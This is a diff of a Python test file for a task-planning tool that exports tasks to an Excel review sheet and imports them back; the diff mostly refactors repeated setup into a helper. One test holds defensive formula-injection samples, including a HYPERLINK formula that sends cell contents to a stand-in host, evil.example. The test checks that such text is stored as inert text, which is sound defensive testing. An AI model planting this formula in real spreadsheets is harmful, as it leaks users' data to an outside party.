@@ -26,6 +26,15 @@ def run(tmp_path):
     return sample_run(tmp_path)
 
 
+def exported_sheet(out, tmp_path, source):
+    """`plantasks export` of the folder, opened for editing: (file, workbook, task sheet, row of each stt)."""
+    xlsx = tmp_path / "review.xlsx"
+    export_workbook(out, xlsx)
+    wb = load_workbook(xlsx)
+    ws = wb[SHEET]
+    return xlsx, wb, ws, rows_by_stt(ws, source.name)
+
+
 def rows_by_stt(ws, doc_label: str) -> dict[str, int]:
     out = {}
     for r in range(2, ws.max_row + 1):
@@ -95,11 +104,7 @@ def test_round_trip_three_cells_become_corrections_that_re_extract_applies(run, 
 def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
     source, out, first = run
     by_stt = {t.stt: t for t in first.tasks}
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     ws.insert_rows(rows["3"])  # a missed task between 2 and 3
     new = rows["3"]
     ws.cell(new, INDEX["stt"]).value = "2a"
@@ -129,11 +134,7 @@ def test_rows_added_deleted_accepted_and_deadline_kind(run, tmp_path):
 
 def test_rows_that_cannot_be_matched_are_reported(run, tmp_path):
     source, out, first = run
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     ws.cell(rows["1"], INDEX["id"]).value = "not-an-id"
     ws.cell(rows["2"], INDEX["area"]).value = "Thời tiết"
     ws.cell(rows["3"], INDEX["stt"]).value = "3b"
@@ -194,11 +195,7 @@ def test_labels_cover_every_code_and_are_unique():
 
 def test_formula_like_text_is_written_as_text_on_export_and_after_import(run, tmp_path):
     source, out, first = run
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     hostile = {"1": '=HYPERLINK("http://evil.example/?"&A2,"bấm")', "2": "+1+1", "3": "@SUM(1,2)", "5": "-2+3"}
     for stt, text in hostile.items():
         ws.cell(rows[stt], INDEX["content"]).value = text  # what an analyst (or a hostile source) typed
@@ -235,11 +232,7 @@ def test_the_sheet_shows_dates_source_flags_in_vietnamese_and_readable_rows(run,
 
 def test_importing_the_same_sheet_twice_changes_nothing_the_second_time(run, tmp_path):
     source, out, first = run
-    xlsx = tmp_path / "review.xlsx"
-    export_workbook(out, xlsx)
-    wb = load_workbook(xlsx)
-    ws = wb[SHEET]
-    rows = rows_by_stt(ws, source.name)
+    xlsx, wb, ws, rows = exported_sheet(out, tmp_path, source)
     ws.insert_rows(rows["3"])
     ws.cell(rows["3"], INDEX["content"]).value = "Rà soát quy trình nội bộ."
     ws.cell(rows["1"], INDEX["deadline"]).value = "Tháng 9/2025"
